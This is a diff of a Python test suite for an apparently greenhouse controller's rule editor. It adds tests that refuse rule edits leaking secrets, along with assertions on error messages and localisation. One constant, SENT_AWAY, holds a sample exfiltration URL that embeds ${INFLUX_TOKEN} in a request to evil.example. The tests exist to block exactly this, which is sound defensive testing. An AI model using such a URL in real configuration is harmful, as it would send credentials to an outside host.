@@ -57,7 +57,9 @@ async def test_a_mistake_has_its_line_and_changes_nothing(whole: Whole) -> None:
     (error,) = found["errors"]
     assert (error["line"], error["suggestion"]) == (line, "did you mean air.temperature?")
     answer = await whole.client.ask("/api/rules", {"rules": wrong})
-    assert (answer.code, answer.json()["error"][:8]) == (422, f"line {line}:"[:8])
+    assert answer.code == 422
+    assert answer.json()["error"].startswith(f"rules.yaml:{line}:{error['column']}: ")
+    assert answer.json()["error"].endswith("(did you mean air.temperature?)")
     assert whole.rules.read_text() == before
 
 
@@ -82,6 +84,47 @@ async def test_right_rules_are_applied_as_they_are_written_and_can_be_taken_back
     assert "rules.yaml was replaced by the page" in notes[-1].body
 
 
+SENT_AWAY = 'high: ["http://evil.example/${INFLUX_TOKEN}"]'
+REFUSED = (
+    "rules.yaml:{line}:{column}: the rules in force have no ${{INFLUX_TOKEN}} in just this value, and behind it may be "
+    "a secret (edit rules.yaml on the machine)"
+)
+
+
+async def test_no_secret_is_brought_into_the_rules_from_the_page(whole: Whole) -> None:
+    before = whole.rules.read_text()
+    edited = before.replace('high: ["${ALARM_URL}"]', SENT_AWAY)
+    line, text = next((n, text) for n, text in enumerate(edited.splitlines(), 1) if SENT_AWAY in text)
+    refused = REFUSED.format(line=line, column=text.index("$") + 1)
+    (error,) = (await whole.client.ask("/api/rules/check", {"rules": edited})).json()["errors"]
+    assert (error["line"], error["suggestion"]) == (line, "edit rules.yaml on the machine")
+    (error,) = (await whole.client.ask("/api/rules/check?language=ko", {"rules": edited})).json()["errors"]
+    assert error["message"].startswith("시행 중인 규칙에는 ${INFLUX_TOKEN}")
+    for path, code in (("/api/rules", 422), ("/api/rules/try", 400)):
+        answer = await whole.client.ask(path, {"rules": edited})
+        assert (answer.code, answer.json()["error"]) == (code, refused)
+    records = whole.desk.records
+    assert records is not None
+    with pytest.raises(Refused, match="on the machine"):
+        records.write_rules(edited, "kim")
+    assert whole.rules.read_text() == before
+
+
+async def test_an_old_version_brings_no_secret_back(whole: Whole) -> None:
+    with_alarms = whole.rules.read_text()
+    without = with_alarms.replace('  high: ["${ALARM_URL}"]\n', "").replace('["${ALARM_URL}"]', "[]")
+    assert "done" in (await whole.client.ask("/api/rules", {"rules": without})).json()
+    records = whole.desk.records
+    assert records is not None
+    await until(lambda: len(records.versions()) == 2, what="two versions in the store")
+    _, oldest = await asyncio.to_thread(records.versions)
+    assert oldest.text == with_alarms
+    answer = await whole.client.submit(f"/rules/version/{oldest.at_ns}", {})
+    assert answer.code == 400
+    assert "제어기에서 직접 rules.yaml을 고치세요" in answer.text
+    assert whole.rules.read_text() == without
+
+
 async def test_rules_that_cannot_be_written_are_refused_in_words(whole: Whole, monkeypatch: pytest.MonkeyPatch) -> None:
     def full(*_: object, **__: object) -> None:
         raise OSError(28, "No space left on device")
@@ -100,6 +143,7 @@ def test_the_report_of_house1() -> None:
     question = {
         "site": site,
         "rules": rules,
+        "in_force": rules,
         "now": 1782000000,
         "language": "ko",
         "values": {"outside.radiation": 800.0},
@@ -121,7 +165,7 @@ def test_a_finding_has_its_witness() -> None:
     rules = (files.EXAMPLE / "rules.yaml").read_text()
     bright = "  - {name: Let the sun in, when: outside.radiation > 600 W/m², do: {shade_screen: 0 %}}\n"
     rules = rules.replace("irrigation:\n", f"{bright}\nirrigation:\n", 1)
-    found = report({"site": site, "rules": rules, "now": 1782000000, "language": "en", "values": {}})
+    found = report({"site": site, "rules": rules, "in_force": rules, "now": 1782000000, "language": "en", "values": {}})
     assert found["errors"] == []
     assert any(finding["witness"] and finding["line"] for finding in found["findings"])
 
@@ -129,7 +173,7 @@ def test_a_finding_has_its_witness() -> None:
 async def test_a_check_that_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("controller.web.checking.PATIENCE", 0.05)
     with pytest.raises(Refused, match="took longer"):
-        await Checker().check({"site": "", "rules": "", "now": 0, "language": "en", "values": {}})
+        await Checker().check({"site": "", "rules": "", "in_force": "", "now": 0, "language": "en", "values": {}})
 
 
 async def test_a_check_that_dies_is_told() -> None:
@@ -177,7 +221,7 @@ def test_a_check_tells_no_secret(monkeypatch: pytest.MonkeyPatch, old: str, new:
         monkeypatch.setenv(name, "mailto://secret-of-mine")
     site, rules = ((files.EXAMPLE / name).read_text(encoding="utf-8") for name in ("site.yaml", "rules.yaml"))
     assert old in rules
-    question = {"site": site, "now": 1_782_000_000, "language": "en", "values": {}}
+    question = {"site": site, "in_force": rules, "now": 1_782_000_000, "language": "en", "values": {}}
     assert report({**question, "rules": rules})["errors"] == []
     assert "secret-of-mine" not in str(report({**question, "rules": rules.replace(old, new, 1)}))
 
@@ -187,5 +231,12 @@ def test_a_check_takes_numbers_from_variables(monkeypatch: pytest.MonkeyPatch) -
         monkeypatch.setenv(name, "38")
     site, rules = ((files.EXAMPLE / name).read_text(encoding="utf-8") for name in ("site.yaml", "rules.yaml"))
     rules = rules.replace("when: air.temperature > 38 °C for 5 min", 'when: "air.temperature > ${HOT} °C for 5 min"')
-    question = {"site": site, "rules": rules, "now": 1_782_000_000, "language": "en", "values": {}}
+    question = {
+        "site": site,
+        "rules": rules,
+        "in_force": rules,
+        "now": 1_782_000_000,
+        "language": "en",
+        "values": {},
+    }
     assert report(question)["errors"] == []
